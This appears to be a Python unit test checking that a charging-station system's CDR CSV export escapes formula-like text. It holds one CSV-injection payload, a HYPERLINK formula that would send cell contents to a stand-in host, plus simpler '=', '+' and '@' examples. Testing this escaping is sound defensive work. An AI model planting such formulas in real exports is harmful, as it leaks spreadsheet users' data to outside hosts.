"""CDR CSV cells: text a station chose never reaches a spreadsheet as a formula."""

from __future__ import annotations

from datetime import UTC, datetime
from decimal import Decimal

from csms.core.model import Transaction
from csms.tariffs.cdr import CSV_COLUMNS, build_cdr, csv_row

T0 = datetime(2026, 12, 7, 10, 0, tzinfo=UTC)


def test_formula_like_text_is_escaped_and_numbers_are_not() -> None:
    tx = Transaction("=CP1", "7", 1, 1, '=HYPERLINK("http://x/?"&A1,"click")', T0, T0, 0.0, 0.0, "@SUM(A1)")
    cells = dict(zip(CSV_COLUMNS, csv_row(build_cdr(tx, None, [], site_id="+site", energy_wh=Decimal(0))),
                     strict=True))
    assert cells["id_tag"] == '\'=HYPERLINK("http://x/?"&A1,"click")'
    assert (cells["charger_id"], cells["site_id"], cells["stop_reason"]) == ("'=CP1", "'+site", "'@SUM(A1)")
    assert cells["energy_wh"] == "0" and cells["transaction_id"] == "7"
